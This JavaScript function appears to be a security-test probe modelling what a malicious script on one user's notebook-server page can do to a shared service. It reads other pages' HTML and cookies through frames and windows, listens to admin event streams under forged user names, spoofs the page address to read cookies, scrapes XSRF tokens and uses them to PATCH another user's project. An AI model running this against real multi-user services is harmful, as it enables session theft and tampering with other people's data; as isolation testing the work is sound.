/**
 * What a script on a page of somebody's notebook server can try on the pool; answers all that it got hold of.
 * With `windowsOnly` it opens one window for each kind of answer, and tries neither requests nor frames.
 */
async (windowsOnly) => {
  const SERVICE = "/services/springtide/";
  const PATHS = [
    "",
    "admin",
    "pool",
    "nowhere",
    "static/site.js",
    "api/v1/admin",
    "api/v1/me",
    "api/v1/events",
    "api/v1/openapi.json",
    "api/v1/x",
  ];
  const KINDS = ["admin", "nowhere", "static/site.js", "api/v1/me"];
  const PATIENCE_MS = 2500;
  const LOADED_WITHIN_MS = 60_000;
  const loot = [];
  const passed = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
  const keep = (how, what) => loot.push([how, String(what)]);

  const readable = (how, where) => {
    try {
      if (where.location.href === "about:blank") return;
      keep(`${how}: page`, where.document.documentElement.outerHTML);
      keep(`${how}: cookies`, where.document.cookie);
    } catch (error) {
      keep(`${how}: refused`, error.name);
    }
  };

  for (const path of windowsOnly ? [] : PATHS) {
    for (const mode of ["no-cors", "same-origin", "cors"]) {
      const answer = await fetch(SERVICE + path, { mode, credentials: "include", headers: { Accept: "text/html" } });
      const { value } = await answer.body.getReader().read();
      keep(`fetch ${mode} ${path} ${answer.status}`, new TextDecoder().decode(value));
    }
  }

  const frames = (windowsOnly ? [] : PATHS).map((path) => {
    const frame = document.createElement("iframe");
    frame.src = SERVICE + path;
    document.body.append(frame);
    return [path, frame];
  });
  const windows = (windowsOnly ? KINDS : PATHS).map((path) => [path, window.open(SERVICE + path)]);
  const here = location.href;
  const address = new URL(`${SERVICE}api/v1/events`, here).href;
  const worker = `${SERVICE}static/DIGEST/visuals/live/stream_worker.js`;
  const names = ["", ...["admin", "joe"].map((user) => JSON.stringify({ address, user, headers: {} }))];
  const heard = names.map((name) => {
    const said = [];
    const { port } = new SharedWorker(worker, { type: "module", name });
    port.onmessage = ({ data }) => said.push(JSON.stringify(data));
    port.postMessage({ join: { source: { address, headers: {} }, kinds: ["pool", "job", "admin"], only: null } });
    return said;
  });
  const stream = new Promise((resolve) => {
    const stream = new EventSource(`${SERVICE}api/v1/events`);
    stream.onopen = () => resolve("open");
    stream.onerror = () => resolve("refused");
    setTimeout(() => resolve("silent"), PATIENCE_MS);
  });

  await passed(PATIENCE_MS);
  const blank = (where) => {
    try {
      return where && !where.closed && where.location.href === "about:blank";
    } catch {
      return false;
    }
  };
  const opening = () =>
    [...windows.map(([, opened]) => opened), ...frames.map(([, frame]) => frame.contentWindow)].some(blank);
  const lastLook = Date.now() + LOADED_WITHIN_MS;
  const silent = () => heard.some((said) => said.length === 0);
  while ((opening() || silent()) && Date.now() < lastLook) await passed(100);
  for (const [path, frame] of frames) {
    if (frame.contentDocument) readable(`frame ${path}`, frame.contentWindow);
    else keep(`frame ${path}: refused`, "no document");
  }
  for (const [path, opened] of windows) {
    if (opened && !opened.closed) readable(`window ${path}`, opened);
    else keep(`window ${path}: refused`, "closed");
  }

  history.pushState({}, "", `${SERVICE}admin`);
  keep("cookies of a pretended address", document.cookie);
  history.pushState({}, "", here);

  keep("EventSource", await stream);
  for (const said of heard.flat()) keep("SharedWorker", said.replace('"kind":', "event: "));

  const tokens = loot.flatMap(([, what]) =>
    [...what.matchAll(/(?:data-xsrf="|_xsrf=)([^";]+)/g)].map((found) => found[1]),
  );
  const changed = [];
  for (const token of ["", ...new Set(tokens)]) {
    const headers = { "Content-Type": "application/json", "X-XSRFToken": token };
    const answer = await fetch(`${SERVICE}api/v1/projects/joe`, {
      method: "PATCH",
      credentials: "include",
      headers,
      body: '{"weight": 7}',
    });
    changed.push(answer.status);
  }
  return { loot, changed };
};
